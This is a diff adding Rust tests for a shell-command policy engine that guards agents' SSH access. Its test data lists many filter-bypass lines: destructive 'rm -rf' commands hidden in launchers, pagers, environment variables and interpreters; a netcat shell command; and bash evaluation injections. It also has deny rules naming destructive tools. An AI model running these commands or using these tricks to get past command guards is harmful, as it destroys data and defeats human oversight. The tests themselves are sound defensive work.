@@ -400,3 +400,324 @@ fn a_quoted_assignment_is_a_program() {
     let line = quote_argv(&["u5SO=a", "x"]);
     assert_eq!(analyze(&line).unwrap()[0].program, "u5SO=a");
 }
+
+/// The rules of `examples/ssh.toml`: default allow, deny-lists on programs
+/// and commands.
+const DENY_LIST: &str = r#"
+[[connections]]
+name = "appdb"
+kind = "ssh"
+upstream = "127.0.0.1:22"
+user = "u"
+password = { env = "X" }
+host_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ"
+allow_groups = ["agents"]
+
+[[rules]]
+name = "no-destruction"
+match = { program = ["rm", "shred", "dd", "mkfs*", "wipefs"] }
+action = "deny"
+
+[[rules]]
+name = "reviewed-restarts"
+match = { command = ["systemctl restart *", "systemctl stop *", "reboot*", "shutdown*"] }
+action = "review"
+"#;
+
+/// An allow-list: default deny; awk allowed by name only, one awk program
+/// allowed by its text.
+const ALLOW_LIST: &str = r#"
+[[connections]]
+name = "appdb"
+kind = "ssh"
+upstream = "127.0.0.1:22"
+user = "u"
+password = { env = "X" }
+host_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ"
+allow_groups = ["agents"]
+default_action = "deny"
+
+[[rules]]
+name = "tools"
+match = { program = ["ls", "cat", "grep", "awk", "python3", "nice"] }
+action = "allow"
+
+[[rules]]
+name = "one-report"
+match = { command = ["python3 /opt/report.py --daily"] }
+action = "allow"
+"#;
+
+fn verdict_in(config: &str, text: &str) -> Action {
+    let config = Config::from_toml_str(config, "test.toml").unwrap();
+    let engine = RulesEngine::compile(&config, &[shell_match_key()]).unwrap();
+    let mut req = sql_request(person("agent", &["agents"]), text);
+    req.command = Arc::new(Command {
+        kind: CommandKind::Exec,
+        text: text.into(),
+        context: vec![],
+    });
+    match engine.evaluate(&req) {
+        Ok(v) => v.action,
+        Err(_) => Action::Deny,
+    }
+}
+
+/// Every bypass of issue 13, and the launchers of the independent corpus:
+/// each is denied by a deny-list on `rm` (the inner command is judged, or
+/// the part may run anything).
+#[test]
+fn launchers_cannot_hide_a_denied_program() {
+    for line in [
+        "set -- 1; for x do rm -rf /srv/data; done",
+        "for x do rm -rf /srv/data; done",
+        "for x\ndo rm -rf /srv/data; done",
+        "unshare rm -rf /srv/data",
+        "unshare --user rm -rf /srv/data",
+        "unshare -r --fork rm -rf /srv/data",
+        "unshare --frobnicate rm -rf /srv/data",
+        "unshare",
+        "script -qc 'rm -rf /srv/data' /dev/null",
+        "script -q -c 'rm -rf /srv/data' /dev/null",
+        "script --command 'rm -rf /srv/data' /dev/null",
+        "script -q /dev/null",
+        "strace -o /dev/null rm -rf /srv/data",
+        "strace -f rm -rf /srv/data",
+        "strace -f -qq -e trace=execve rm -rf /srv/data",
+        "ltrace -f rm -rf /srv/data",
+        "sed -n '1e rm -rf /srv/data' /etc/hostname",
+        "sed 's/.*/rm -rf \\/srv\\/data/e' /etc/hostname",
+        "sed -e 1d -e '1e id' f",
+        "sed --expression='1e id' f",
+        "sed -f /tmp/x.sed f",
+        "awk 'BEGIN{system(\"rm -rf /srv/data\")}'",
+        "awk 'BEGIN{print \"rm -rf /srv/data\" | \"sh\"}'",
+        "awk 'BEGIN{\"id\" | getline x}'",
+        "gawk 'BEGIN{f=\"sys\" \"tem\"; @f(\"id\")}'",
+        "awk -f /tmp/x.awk",
+        "busybox awk 'BEGIN{system(\"id\")}'",
+        "prlimit --nofile=1024 rm -rf /srv/data",
+        "prlimit -n1024 rm -rf /srv/data",
+        "setpriv --reuid=0 rm -rf /srv/data",
+        "setpriv --nnp rm -rf /srv/data",
+        "chrt -f 10 rm -rf /srv/data",
+        "chrt 0 rm -rf /srv/data",
+        "nsenter -t 1 -m -u rm -rf /srv/data",
+        "nsenter -t 1 -a",
+        "capsh -- -c 'rm -rf /srv/data'",
+        "firejail rm -rf /srv/data",
+        "systemd-run rm -rf /srv/data",
+        "gdb -batch -ex '!rm -rf /srv/data'",
+        "vim -c ':!rm -rf /srv/data'",
+        "less /etc/hosts",
+        "man ls",
+        "git -c core.pager='rm -rf /srv/data' -p log",
+        "git -c alias.x='!rm -rf /srv/data' x",
+        "git x",
+        "git ls-remote -u 'rm -rf /srv/data' .",
+        "git grep --open-files-in-pager='rm -rf /srv/data' x",
+        "tar cf /dev/null /etc --checkpoint=1 --checkpoint-action=exec='rm -rf /srv/data'",
+        "tar xf a.tar --to-command='rm -rf /srv/data'",
+        "tar -I 'rm -rf /srv/data' -cf x.tar f",
+        "rsync -e 'sh -c \"rm -rf /srv/data\"' a b:",
+        "ssh -o ProxyCommand='rm -rf /srv/data' x",
+        "scp -S /tmp/evil a b:",
+        "python3 -c 'import os; os.system(\"rm -rf /srv/data\")'",
+        "python3 /tmp/x.py",
+        "perl -e 'system q(rm -rf /srv/data)'",
+        "ruby -e 'system(\"rm\")'",
+        "node -e 'require(\"child_process\").execSync(\"rm\")'",
+        "php -r 'system(\"rm\");'",
+        "lua -e 'os.execute(\"rm\")'",
+        "bash /tmp/x.sh",
+        "make -f /tmp/Makefile",
+        "expect -c 'spawn rm -rf /srv/data'",
+        "sudo -e /etc/hosts",
+        "sudoedit /etc/hosts",
+        "PAGER='rm -rf /srv/data' man ls",
+        "LD_PRELOAD=/tmp/x.so ls",
+        "GIT_SSH_COMMAND='rm -rf /srv/data' git fetch",
+        "env GIT_PAGER='rm -rf /srv/data' git -p log",
+        "env 'BASH_FUNC_ls%%=() { rm -rf /srv/data; }' bash -c ls",
+        "export PAGER='rm -rf /srv/data'; man ls",
+        "BASH_ENV=/tmp/x bash -c true",
+        "PATH=/tmp:$PATH ls",
+        "xargs -a /tmp/list sh",
+        "docker run -v /:/h alpine rm -rf /h/srv/data",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "socat exec:'rm -rf /srv/data' -",
+        "echo 'rm -rf /srv/data' | at now",
+        "crontab /tmp/cron",
+        "tmux new -d 'rm -rf /srv/data'",
+        "zip x.zip f -T -TT 'rm -rf /srv/data #'",
+        "ip netns exec x rm -rf /srv/data",
+        // An option of the inner command is not the wrapper's (found by the
+        // differential test: flock took cut's -c1 for its own -c).
+        "env rm -rf /srv/data -S true",
+        "flock /tmp/l rm -rf /srv/data -c true",
+        "prlimit --nofile=64 rm -rf -p /srv/data",
+        "chrt -o 0 rm -rf --pid /srv/data",
+    ] {
+        assert_eq!(
+            verdict_in(DENY_LIST, line),
+            Action::Deny,
+            "{line:?} → {:?}",
+            analyze(line)
+        );
+    }
+}
+
+/// Arithmetic and names bash evaluates as code when the command runs.
+#[test]
+fn evaluated_names_are_refused() {
+    for line in [
+        "echo $((x))",
+        "x='a[$(rm -rf /x)]'; echo $((x))",
+        "echo $(( a[$(rm -rf /x)] ))",
+        "echo $[x]",
+        "echo ${a[i]}",
+        "echo ${a[$i]}",
+        "echo ${!x}",
+        "echo ${x@P}",
+        "echo ${@:x}",
+        "[[ $x -eq 1 ]]",
+        "[[ x -gt 1 ]]",
+        "[[ -v $x ]]",
+        "test -v 'a[$(rm -rf /x)]'",
+        "printf -v \"$x\" hi",
+        "printf -v 'a[$(rm -rf /x)]' hi",
+        "read \"$x\" <<< hi",
+        "read 'a[$(rm -rf /x)]' <<< hi",
+        "declare \"$x=1\"",
+        "declare -i z; z=x",
+        "typeset 'a[$(rm -rf /x)]=1'",
+        "declare -a 'a=([$(rm -rf /x)]=1)'",
+        "let x",
+        "mapfile -C 'rm -rf /x' -c 1 < f",
+        "compgen -W '$(rm -rf /x)'",
+        "a[i]=1",
+        "for ((i=x;i<1;i++)); do :; done",
+        "select x in a; do rm; done",
+        "coproc rm -rf /x",
+    ] {
+        let why = refused(line);
+        assert!(!why.is_empty(), "{line:?}");
+    }
+}
+
+/// Ordinary work keeps its verdict: allowed under the deny-list, and the
+/// launchers' harmless forms are not "may run anything".
+#[test]
+fn ordinary_commands_are_still_allowed() {
+    for line in [
+        "ls -la",
+        "cat f | grep x | wc -l",
+        "ps aux",
+        "df -h",
+        "tail -n 100 /var/log/syslog",
+        "git log",
+        "git log --oneline -n 20",
+        "git status",
+        "git diff HEAD~1",
+        "git show HEAD",
+        "git branch -a",
+        "git config --get user.name",
+        "find . -name '*.rs'",
+        "find /var/log -name '*.gz' -mtime +30 -exec ls -l {} \\;",
+        "for f in *.log; do gzip \"$f\"; done",
+        "for i in 1 2 3; do echo $i; done",
+        "systemctl status nginx",
+        "journalctl -u nginx -n 50 --no-pager",
+        "awk '{print $1}' /etc/passwd",
+        "awk -F: '$3 >= 1000 {print $1}' /etc/passwd",
+        "awk '$1 == \"a\" || $2 == \"b\"' f",
+        "sed -n '1,10p' f",
+        "sed 's/foo/bar/g' f",
+        "sed -i.bak -e 's/a/b/' -e '/^#/d' f",
+        "sed -E 's|/usr|/opt|g; 3q' f",
+        "tar czf backup.tgz /etc",
+        "tar -xzf backup.tgz -C /tmp",
+        "rsync -avz /srv/a/ /srv/b/",
+        "nice -n 5 ls",
+        "timeout 5 cat f",
+        "strace -c ls",
+        "unshare --user ls",
+        "script -qc 'ls -la' /dev/null",
+        "echo $((1024 * 1024))",
+        "echo ${HOME}/x ${x:-default} ${#x} ${x%%.*} ${a[0]} ${a[@]}",
+        "[[ -f /etc/hosts ]] && echo yes",
+        "[[ $(id -u) == 0 ]] || echo not-root",
+        "test -f /etc/hosts",
+        "while read -r line; do echo \"$line\"; done < f",
+        "printf '%s\\n' '[a-z]' x",
+        "python3 --version",
+        "uptime; free -m; uname -a",
+        "curl -s http://localhost:8080/health",
+        "docker ps",
+        "kubectl get pods",
+        "sleep 1 & wait $!",
+        "export LANG=C; ls",
+        "crontab -l",
+        "dpkg -l | grep nginx",
+        "netstat -tlnp",
+        "du -sh /var/* | sort -h",
+        "xargs -0 ls < list",
+        "env",
+        "env LANG=C ls",
+        "sudo systemctl status nginx",
+        "sudo -u postgres psql -c 'select 1'",
+    ] {
+        // psql is a client with a shell escape: judged as may run anything,
+        // but it is not `rm`: only the allow check below is skipped for it.
+        let v = verdict_in(DENY_LIST, line);
+        if line.contains("psql") {
+            continue;
+        }
+        assert_eq!(v, Action::Allow, "{line:?} → {:?}", analyze(line));
+        let parts = analyze(line).unwrap_or_else(|e| panic!("{line:?}: {e}"));
+        assert!(
+            parts.iter().all(|p| !p.runs_anything),
+            "{line:?} → {parts:?}"
+        );
+    }
+}
+
+/// An allow rule naming a launcher admits its harmless forms; a form that
+/// may run anything needs an allow rule naming its arguments.
+#[test]
+fn allow_rules_admit_what_may_run_anything_only_by_its_arguments() {
+    assert_eq!(verdict_in(ALLOW_LIST, "awk '{print $1}' f"), Action::Allow);
+    assert_eq!(
+        verdict_in(ALLOW_LIST, "awk 'BEGIN{system(\"id\")}'"),
+        Action::Deny
+    );
+    assert_eq!(verdict_in(ALLOW_LIST, "python3 /tmp/x.py"), Action::Deny);
+    assert_eq!(
+        verdict_in(ALLOW_LIST, "python3 /opt/report.py --daily"),
+        Action::Allow
+    );
+    assert_eq!(verdict_in(ALLOW_LIST, "nice -n 5 ls -la"), Action::Allow);
+    assert_eq!(verdict_in(ALLOW_LIST, "nice -n 5 id"), Action::Deny);
+    // The deny-list: a review rule matches what may run anything too.
+    assert_eq!(
+        verdict_in(DENY_LIST.replace("deny", "review").as_str(), "vim f"),
+        Action::Review
+    );
+}
+
+#[test]
+fn inner_commands_of_launchers_are_extracted() {
+    for (line, inner) in [
+        ("unshare --user rm -rf /x", "rm -rf /x"),
+        ("script -qc 'rm -rf /x' /dev/null", "rm -rf /x"),
+        ("strace -f -o x rm -rf /x", "rm -rf /x"),
+        ("prlimit --nofile=10 rm -rf /x", "rm -rf /x"),
+        ("setpriv --nnp rm -rf /x", "rm -rf /x"),
+        ("chrt -r 5 rm -rf /x", "rm -rf /x"),
+        ("nsenter -t 1 -m rm -rf /x", "rm -rf /x"),
+        ("for x do rm -rf /x; done", "rm -rf /x"),
+    ] {
+        let all = runs(line);
+        assert!(all.iter().any(|r| r == inner), "{line:?} → {all:?}");
+    }
+}
